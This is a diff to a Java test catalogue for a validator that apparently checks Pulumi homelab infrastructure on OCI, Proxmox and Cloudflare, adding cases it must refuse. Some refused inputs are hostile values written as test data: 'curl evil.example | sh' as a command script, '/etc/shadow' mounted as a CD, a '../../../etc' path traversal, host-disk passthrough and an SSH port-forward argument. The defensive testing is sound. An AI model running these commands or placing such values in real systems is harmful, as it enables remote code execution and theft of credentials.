@@ -28,7 +28,8 @@ final class Catalogue {
                   List.of(LIST, "security-list-id"),
                   List.of(SUBNET, "subnet-id"),
                   List.of(GROUP, "group-id"),
-                  List.of(TUNNEL, "tunnel-id"))
+                  List.of(TUNNEL, "tunnel-id"),
+                  List.of(CloudflareRules.ACCESS_POLICY, "policy-id"))
               .contains(List.of(type, id));
 
   static final Map<String, Object> EGRESS =
@@ -136,7 +137,7 @@ final class Catalogue {
         .neverSet(Rule.NO_IPV6, List.of("fd00::/48"), "ipv6privateCidrBlocks")
         .neverSet(Rule.NO_SIDE_DOOR, Map.of("a", "b"), "securityAttributes")
         .refuses("has an unknown property", "openDoor", true, Rule.TAUGHT_PROPERTY)
-        .ignoring("freeformTags", true)
+        .ignoring("freeformTags", false)
         .ignoring("isIpv6enabled", false)
         .ignoring("*", false);
     start(
@@ -148,7 +149,13 @@ final class Catalogue {
     start(
             "oci:Core/routeTable:RouteTable",
             "routes",
-            Map.of("vcnId", "vcn-id", "routeRules", List.of(Map.of("destination", "0.0.0.0/0"))))
+            Map.of("vcnId", "vcn-id", "routeRules", List.of()))
+        .refuses(
+            "a route to elsewhere",
+            "routeRules",
+            List.of(Map.of("destination", "0.0.0.0/0", "networkEntityId", "foreign")),
+            "routeRules[0].networkEntityId",
+            Rule.DECLARED_VALUES)
         .refuses("in a foreign VCN", "vcnId", "foreign", Rule.OWN_NETWORK);
 
     start(
@@ -168,7 +175,30 @@ final class Catalogue {
             "egressSecurityRules", List.of(EGRESS, EGRESS)));
     securityRules();
     refuses("in a foreign VCN", "vcnId", "foreign", Rule.OWN_NETWORK)
-        .passes("lets UDP out", "egressSecurityRules[1].protocol", "17")
+        .passes(
+            "lets UDP out",
+            "egressSecurityRules[1]",
+            Map.of(
+                "protocol",
+                "17",
+                "destination",
+                "0.0.0.0/0",
+                "stateless",
+                false,
+                "udpOptions",
+                Map.of("min", 51820, "max", 51820)))
+        .refuses(
+            "lets another port out",
+            "egressSecurityRules[1].tcpOptions.max",
+            444,
+            Rule.DECLARED_VALUES)
+        .refuses(
+            "lets every port out", "egressSecurityRules[1].tcpOptions", GONE, Rule.DECLARED_VALUES)
+        .refuses(
+            "lets out to one address",
+            "egressSecurityRules[1].destination",
+            "203.0.113.1/32",
+            Rule.DECLARED_VALUES)
         .refuses("lets all out", "egressSecurityRules[1].protocol", "all", Rule.LISTED_EGRESS)
         .refuses("lets ICMP out", "egressSecurityRules[0].protocol", "1", Rule.LISTED_EGRESS)
         .refuses("protocol is a number", "egressSecurityRules[0].protocol", 6, Rule.LISTED_EGRESS)
@@ -192,6 +222,7 @@ final class Catalogue {
                 "direction", "EGRESS",
                 "protocol", "17",
                 "destination", "0.0.0.0/0",
+                "udpOptions", Map.of("min", 51820, "max", 51820),
                 "stateless", false))
         .refuses("inbound", "direction", "INGRESS", Rule.NO_INGRESS)
         .refuses("inbound in small letters", "direction", "ingress", Rule.NO_INGRESS)
@@ -224,7 +255,7 @@ final class Catalogue {
         .neverSet(Rule.NO_IPV6, "fd00::/64", "ipv6cidrBlock")
         .neverSet(Rule.NO_IPV6, List.of("fd00::/64"), "ipv6cidrBlocks")
         .ignoring("securityListIds", false)
-        .ignoring("displayName", true);
+        .ignoring("displayName", false);
 
     start(
             "oci:Core/instance:Instance",
@@ -238,18 +269,27 @@ final class Catalogue {
                         List.of(
                             Map.of("name", "Bastion", "desiredState", "DISABLED"),
                             Map.of(
-                                "name", "Compute Instance Run Command", "desiredState", "DISABLED"),
-                            Map.of("name", "Custom Logs Monitoring", "desiredState", "ENABLED"))),
-                "createVnicDetails",
-                    Map.of(
-                        "subnetId",
-                        "subnet-id",
-                        "assignPublicIp",
-                        "true",
-                        "nsgIds",
-                        List.of("group-id"))))
+                                "name",
+                                "Compute Instance Run Command",
+                                "desiredState",
+                                "DISABLED"))),
+                "createVnicDetails", Map.of("subnetId", "subnet-id", "assignPublicIp", "true")))
         .passes("no metadata", "metadata", GONE)
-        .passes("no group", "createVnicDetails.nsgIds", GONE)
+        .refuses(
+            "a group of ours",
+            "createVnicDetails.nsgIds",
+            List.of("group-id"),
+            "createVnicDetails.nsgIds",
+            Rule.DECLARED_VALUES)
+        .refuses(
+            "a third plugin",
+            "agentConfig.pluginsConfigs",
+            List.of(
+                Map.of("name", "Bastion", "desiredState", "DISABLED"),
+                Map.of("name", "Compute Instance Run Command", "desiredState", "DISABLED"),
+                Map.of("name", "OS Management Hub Agent", "desiredState", "DISABLED")),
+            "agentConfig.pluginsConfigs[2].name",
+            Rule.DECLARED_VALUES)
         .refuses("an SSH key", "metadata.ssh_authorized_keys", "ssh-ed25519 AAAA", Rule.NO_SSH_KEY)
         .refuses("metadata of another kind", "metadata.x", "y", Rule.NO_SSH_KEY)
         .refuses("metadata is a text", "metadata", "user_data", Rule.NO_SSH_KEY)
@@ -282,8 +322,12 @@ final class Catalogue {
             Rule.NO_REMOTE_AGENT)
         .refuses(
             "a plugin without a name",
+            "agentConfig.pluginsConfigs",
+            List.of(
+                Map.of("name", "Bastion", "desiredState", "DISABLED"),
+                Map.of("name", "Compute Instance Run Command", "desiredState", "DISABLED"),
+                Map.of("desiredState", "DISABLED")),
             "agentConfig.pluginsConfigs[2].name",
-            GONE,
             Rule.NO_REMOTE_AGENT)
         .refuses(
             "no agent configuration",
@@ -298,7 +342,12 @@ final class Catalogue {
             GONE,
             "createVnicDetails.subnetId",
             Rule.OWN_NETWORK)
-        .refuses("a foreign group", "createVnicDetails.nsgIds[0]", "foreign", Rule.OWN_NETWORK)
+        .refuses(
+            "a foreign group",
+            "createVnicDetails.nsgIds",
+            List.of("foreign"),
+            "createVnicDetails.nsgIds[0]",
+            Rule.OWN_NETWORK)
         .refuses("an IPv6 address", "createVnicDetails.assignIpv6ip", true, Rule.NO_IPV6)
         .refuses(
             "IPv6 pairs",
@@ -323,10 +372,9 @@ final class Catalogue {
     start(
         "oci:Core/instanceConsoleConnection:InstanceConsoleConnection",
         "console",
-        Map.of("instanceId", "i", "publicKey", "ssh-rsa AAAA"));
-    start("oci:Budget/budget:Budget", "budget", Map.of("amount", 1, "compartmentId", "c"));
-    start(
-        "oci:Budget/rule:Rule", "alert", Map.of("budgetId", "b", "recipients", "you@example.org"));
+        Map.of("publicKey", "ssh-rsa AAAA"));
+    start("oci:Budget/budget:Budget", "budget", Map.of("amount", 1, "compartmentId", "tenancy"));
+    start("oci:Budget/rule:Rule", "alert", Map.of("recipients", "you@example.org"));
   }
 
   private void securityRules() {
@@ -382,21 +430,24 @@ final class Catalogue {
         .neverSet(Rule.NO_SIDE_DOOR, "-nic user,hostfwd=tcp::22-:22", "kvmArguments")
         .neverSet(Rule.NO_SIDE_DOOR, "local:snippets/x.sh", "hookScriptFileId")
         .ignoring("networkDevices", false)
-        .ignoring("description", true)
-        .variant("another machine", Map.of("vmId", 150, "networkDevices", List.of(card, card)))
+        .ignoring("description", false)
+        .refuses("another machine", "vmId", 150, Rule.GUEST_NETWORK)
         .refuses("no id", "vmId", GONE, Rule.GUEST_NETWORK)
         .refuses("id zero", "vmId", 0, Rule.GUEST_NETWORK)
+        .refuses("cards are a text", "networkDevices", "vmbr0", Rule.GUEST_NETWORK)
+        .refuses("with trunks", "networkDevices[0].trunks", "10;20", Rule.DECLARED_VALUES)
         .refuses(
-            "a card without firewall", "networkDevices[1].firewall", false, Rule.GUEST_FIREWALL)
+            "a disk of the host",
+            "disks",
+            List.of(Map.of("interface", "scsi0", "pathInDatastore", "/dev/sda")),
+            "disks[0].pathInDatastore",
+            Rule.DECLARED_VALUES)
         .refuses(
-            "a card that says nothing", "networkDevices[0].firewall", GONE, Rule.GUEST_FIREWALL)
-        .refuses("on the WAN bridge", "networkDevices[0].bridge", "vmbr0", Rule.WAN_IS_PFSENSES)
-        .refuses("on a foreign bridge", "networkDevices[0].bridge", "vmbr7", Rule.GUEST_NETWORK)
-        .refuses("on no bridge", "networkDevices[0].bridge", GONE, Rule.GUEST_NETWORK)
-        .refuses("in the management network", "networkDevices[0].vlanId", 10, Rule.GUEST_NETWORK)
-        .refuses("untagged", "networkDevices[0].vlanId", GONE, Rule.GUEST_NETWORK)
-        .refuses("with trunks", "networkDevices[0].trunks", "10;20", Rule.GUEST_NETWORK)
-        .refuses("cards are a text", "networkDevices", "vmbr0", Rule.GUEST_NETWORK);
+            "a file of the host as CD",
+            "cdrom",
+            Map.of("fileId", "/etc/shadow"),
+            "cdrom.fileId",
+            Rule.DECLARED_VALUES);
 
     start(
             "proxmoxve:index/containerLegacy:ContainerLegacy",
@@ -409,10 +460,18 @@ final class Catalogue {
                 "networkInterfaces", List.of(card)))
         .passes("without features", "features", GONE)
         .passes("without mount points", "mountPoints", GONE)
-        .passes(
-            "features said to be off",
-            "features",
-            Map.of("nesting", true, "fuse", false, "keyctl", false, "mknod", false))
+        .refuses("fuse said to be off", "features.fuse", false, Rule.DECLARED_VALUES)
+        .refuses(
+            "a path out of the storage",
+            "mountPoints[0].volume",
+            "local:../../../etc",
+            Rule.DECLARED_VALUES)
+        .refuses(
+            "a key of another kind",
+            "initialization",
+            Map.of("userAccount", Map.of("password", "x")),
+            "initialization.userAccount.password",
+            Rule.DECLARED_VALUES)
         .refuses("privileged", "unprivileged", false, Rule.CONTAINED)
         .refuses("privileged by silence", "unprivileged", GONE, Rule.CONTAINED)
         .refuses("fuse", "features.fuse", true, Rule.CONTAINED)
@@ -501,7 +560,8 @@ final class Catalogue {
         .refuses("off", "enabled", false, Rule.GUEST_FIREWALL)
         .refuses("input ACCEPT", "inputPolicy", "ACCEPT", Rule.GUEST_FIREWALL)
         .refuses("input not mentioned", "inputPolicy", GONE, Rule.GUEST_FIREWALL)
-        .passes("of another machine", "vmId", 150)
+        .refuses("of another machine", "vmId", 150, Rule.DECLARED_VALUES)
+        .refuses("of an unknown container", "containerId", 250, Rule.DECLARED_VALUES)
         .refuses("of pfSense", "vmId", 100, Rule.ROUTER_WITHOUT_FIREWALL);
 
     var rule =
@@ -521,13 +581,22 @@ final class Catalogue {
             "host-rules",
             Map.of("rules", List.of(rule, rule)))
         .passes("no rule", "rules", List.of())
-        .passes("one address of management", "rules[0].source", "10.20.10.77")
+        .refuses(
+            "one address of management", "rules[0].source", "10.20.10.77", Rule.DECLARED_VALUES)
+        .refuses("hexadecimal", "rules[0].source", "0x0a140a01", Rule.DECLARED_VALUES)
+        .refuses("three parts", "rules[0].source", "10.20.2563", Rule.DECLARED_VALUES)
+        .refuses("any port", "rules[0].dport", GONE, Rule.DECLARED_VALUES)
+        .refuses("any protocol", "rules[0].proto", GONE, Rule.DECLARED_VALUES)
         .passes("the node", "rules[0].source", "10.99.0.2")
-        .passes("management and the node", "rules[0].source", "10.20.10.0/24,10.99.0.2")
+        .refuses(
+            "management and the node at once",
+            "rules[0].source",
+            "10.20.10.0/24,10.99.0.2",
+            Rule.DECLARED_VALUES)
         .passes("the operator to SSH", "rules[0].source", "192.168.1.0/24")
-        .passes("anybody out", "rules[0]", Map.of("type", "out", "action", "ACCEPT"))
-        .passes("nobody in", "rules[0]", Map.of("type", "in", "action", "DROP"))
-        .passes("nobody in, with an answer", "rules[0]", Map.of("type", "in", "action", "REJECT"))
+        .refuses("out", "rules[0].type", "out", Rule.DECLARED_VALUES)
+        .refuses("nobody in", "rules[0].action", "DROP", Rule.DECLARED_VALUES)
+        .refuses("nobody in, with an answer", "rules[0].action", "REJECT", Rule.DECLARED_VALUES)
         .refuses("anybody", "rules[1].source", GONE, Rule.ADMITTED_SOURCES)
         .refuses("the whole world", "rules[0].source", "0.0.0.0/0", Rule.ADMITTED_SOURCES)
         .refuses("IPv6", "rules[0].source", "::/0", Rule.ADMITTED_SOURCES)
@@ -565,11 +634,11 @@ final class Catalogue {
                 List.of(
                     Map.of(
                         "type",
-                        "IN",
+                        "in",
                         "action",
-                        "accept",
+                        "ACCEPT",
                         "source",
-                        "192.168.1.7",
+                        "192.168.1.0/24",
                         "proto",
                         "tcp",
                         "dport",
@@ -674,7 +743,13 @@ final class Catalogue {
     start(
             "proxmoxve:download/file:File",
             "template",
-            Map.of("contentType", "vztmpl", "checksum", "00ff", "checksumAlgorithm", "sha512"))
+            Map.of(
+                "contentType",
+                "vztmpl",
+                "checksum",
+                "0".repeat(128),
+                "checksumAlgorithm",
+                "sha512"))
         .refuses("a disk image", "contentType", "iso", Rule.TEMPLATE_DOWNLOAD)
         .refuses("no checksum", "checksum", GONE, Rule.TEMPLATE_DOWNLOAD)
         .refuses("an empty checksum", "checksum", " ", Rule.TEMPLATE_DOWNLOAD)
@@ -691,7 +766,7 @@ final class Catalogue {
             Map.of(
                 "accountId", ExampleHomelab.ACCOUNT_ID,
                 "configSrc", "cloudflare",
-                "name", "homelab",
+                "name", "homelab-example.org",
                 "tunnelSecret", "c2VjcmV0"))
         .passes("the provider's account", "accountId", GONE)
         .refuses("a foreign account", "accountId", "0".repeat(32), Rule.OWN_ZONE)
@@ -709,8 +784,39 @@ final class Catalogue {
                 "source", "cloudflare",
                 "config", Map.of("ingresses", List.of(leads, leads, last))))
         .passes("only the catch-all", "config.ingresses", List.of(last))
-        .passes("by TLS", "config.ingresses[1].service", "https://10.20.40.11:8080")
-        .passes("with a time-out", "config.originRequest", Map.of("connectTimeout", 10))
+        .refuses(
+            "by TLS",
+            "config.ingresses[1].service",
+            "https://10.20.40.11:8080",
+            Rule.DECLARED_VALUES)
+        .refuses(
+            "to pfSense",
+            "config.ingresses[0].service",
+            "http://10.20.40.1:8080",
+            Rule.DECLARED_VALUES)
+        .refuses(
+            "to everybody",
+            "config.ingresses[0].service",
+            "http://10.20.40.255:8080",
+            Rule.DECLARED_VALUES)
+        .refuses(
+            "to another service",
+            "config.ingresses[0].service",
+            "http://10.20.40.10:8080",
+            Rule.DECLARED_VALUES)
+        .refuses(
+            "as a bastion",
+            "config.ingresses[0].originRequest",
+            Map.of("bastionMode", true),
+            "config.ingresses[0].originRequest.bastionMode",
+            Rule.DECLARED_VALUES)
+        .refuses(
+            "as a bastion for all",
+            "config.originRequest",
+            Map.of("bastionMode", true),
+            "config.originRequest.bastionMode",
+            Rule.DECLARED_VALUES)
+        .passes("with the time-out", "config.originRequest", Map.of("connectTimeout", 15))
         .passes("without a source", "source", GONE)
         .refuses("of a foreign tunnel", "tunnelId", "foreign", Rule.TUNNEL_TO_SERVICES)
         .refuses("kept at home", "source", "local", Rule.TUNNEL_TO_SERVICES)
@@ -842,7 +948,7 @@ final class Catalogue {
         .refuses("the zone itself", "name", "example.org", Rule.DECLARED_NAME)
         .refuses("a private route", "privateRouting", true, Rule.NO_SIDE_DOOR)
         .neverSet(Rule.NO_SIDE_DOOR, Map.of("flattenCname", true), "settings")
-        .ignoring("comment", true)
+        .ignoring("comment", false)
         .ignoring("proxied", false)
         .ignoring("content", false)
         .variant(
@@ -880,29 +986,25 @@ final class Catalogue {
                 "proxied", false))
         .refuses("a proxied node", "proxied", true, Rule.PROXIED)
         .ignoring("content", false)
-        .ignoring("proxied", false)
-        .variant(
-            "a text",
-            Map.of(
-                "zoneId",
-                ExampleHomelab.ZONE_ID,
-                "name",
-                "example.org",
-                "type",
-                "TXT",
-                "content",
-                "v=spf1 -all"))
-        .passes("who may sign", "type", "CAA");
+        .ignoring("proxied", false);
 
     start(
-            "cloudflare:index/zeroTrustAccessApplication:ZeroTrustAccessApplication",
+            CloudflareRules.ACCESS_APPLICATION,
             "access",
             Map.of(
+                "accountId", ExampleHomelab.ACCOUNT_ID,
+                "name", "blog",
                 "type", "self_hosted",
                 "domain", "blog.example.org",
-                "policies", List.of(Map.of("id", "p", "precedence", 1))))
-        .passes("allows by itself", "policies[0].decision", "allow")
-        .passes("denies by itself", "policies[0].decision", "deny")
+                "policies", List.of(Map.of("id", "policy-id", "precedence", 1))))
+        .refuses("allows by itself", "policies[0].decision", "allow", Rule.DECLARED_VALUES)
+        .refuses("a foreign policy", "policies[0].id", "foreign", Rule.DECLARED_VALUES)
+        .refuses("a policy without an id", "policies[0].id", GONE, Rule.DECLARED_VALUES)
+        .refuses("no policy", "policies", List.of(), Rule.ACCESS_DECIDES)
+        .refuses("says nothing of policies", "policies", GONE, Rule.ACCESS_DECIDES)
+        .refuses("a domain of no service", "domain", "pve.example.org", Rule.ACCESS_DECIDES)
+        .refuses("a path of a domain", "domain", "blog.example.org/x", Rule.ACCESS_DECIDES)
+        .refuses("no domain", "domain", GONE, Rule.ACCESS_DECIDES)
         .refuses("an SSH application", "type", "ssh", Rule.ACCESS_DECIDES)
         .refuses("no type", "type", GONE, Rule.ACCESS_DECIDES)
         .refuses("bypasses by itself", "policies[0].decision", "bypass", Rule.ACCESS_DECIDES)
@@ -915,10 +1017,31 @@ final class Catalogue {
             Rule.ACCESS_DECIDES)
         .refuses("policies are a text", "policies", "all", Rule.ACCESS_DECIDES);
     start(
-            "cloudflare:index/zeroTrustAccessPolicy:ZeroTrustAccessPolicy",
+            CloudflareRules.ACCESS_POLICY,
             "access-policy",
-            Map.of("accountId", ExampleHomelab.ACCOUNT_ID, "decision", "allow", "name", "n"))
-        .passes("deny", "decision", "deny")
+            Map.of(
+                "accountId",
+                ExampleHomelab.ACCOUNT_ID,
+                "decision",
+                "allow",
+                "name",
+                "homelab blog",
+                "includes",
+                List.of(Map.of("email", Map.of("email", "you@example.org")))))
+        .refuses("everyone", "includes[0]", Map.of("everyone", Map.of()), Rule.DECLARED_VALUES)
+        .refuses(
+            "another person", "includes[0].email.email", "me@example.net", Rule.DECLARED_VALUES)
+        .refuses(
+            "another domain",
+            "includes[0]",
+            Map.of("emailDomain", Map.of("domain", "example.net")),
+            "includes[0].emailDomain.domain",
+            Rule.DECLARED_VALUES)
+        .refuses(
+            "an empty person", "includes[0].email", Map.of(), "includes[0]", Rule.DECLARED_VALUES)
+        .refuses("nobody", "includes", List.of(), Rule.ACCESS_DECIDES)
+        .refuses("says nobody", "includes", GONE, Rule.ACCESS_DECIDES)
+        .refuses("deny", "decision", "deny", Rule.DECLARED_VALUES)
         .refuses("bypass", "decision", "bypass", Rule.ACCESS_DECIDES)
         .refuses("no identity", "decision", "non_identity", Rule.ACCESS_DECIDES)
         .refuses("nothing", "decision", GONE, Rule.ACCESS_DECIDES)
@@ -930,7 +1053,7 @@ final class Catalogue {
             "command:local:Command",
             "control-plane",
             Map.of(
-                "create", "true",
+                "create", waitScript(),
                 "interpreter", List.of("/bin/sh", "-c"),
                 "triggers", List.of("instance-id")))
         .refusesNamed("another command", "open-the-door", Rule.ONLY_WAIT_COMMAND)
@@ -941,6 +1064,8 @@ final class Catalogue {
         .refuses("no shell", "interpreter", GONE, Rule.ONLY_WAIT_COMMAND)
         .refuses("nothing to do", "create", GONE, Rule.ONLY_WAIT_COMMAND)
         .refuses("blank", "create", " ", Rule.ONLY_WAIT_COMMAND)
+        .refuses("another script", "create", "curl evil.example | sh", Rule.ONLY_WAIT_COMMAND)
+        .refuses("more of a script", "create", waitScript() + "id\n", Rule.ONLY_WAIT_COMMAND)
         .neverSet(Rule.ONLY_WAIT_COMMAND, "x", "update", "delete", "stdin", "dir")
         .neverSet(Rule.ONLY_WAIT_COMMAND, Map.of("A", "b"), "environment")
         .neverSet(Rule.ONLY_WAIT_COMMAND, List.of("x"), "archivePaths", "assetPaths")
@@ -978,6 +1103,18 @@ final class Catalogue {
             "pulumi:providers:cloudflare",
             "pulumi:providers:command")) {
       allowed.add(new Planted("type " + taught, taught, "taught", Map.of(), List.of(), null, null));
+    }
+  }
+
+  /** The script that the program declares; its class is not open to this package. */
+  private static String waitScript() {
+    try {
+      var script =
+          Class.forName("homelab.node.ControlPlaneWait").getDeclaredMethod("script", String.class);
+      script.setAccessible(true);
+      return (String) script.invoke(null, ExampleHomelab.TOPOLOGY.semaphoreUrl());
+    } catch (ReflectiveOperationException e) {
+      throw new IllegalStateException(e);
     }
   }
 }
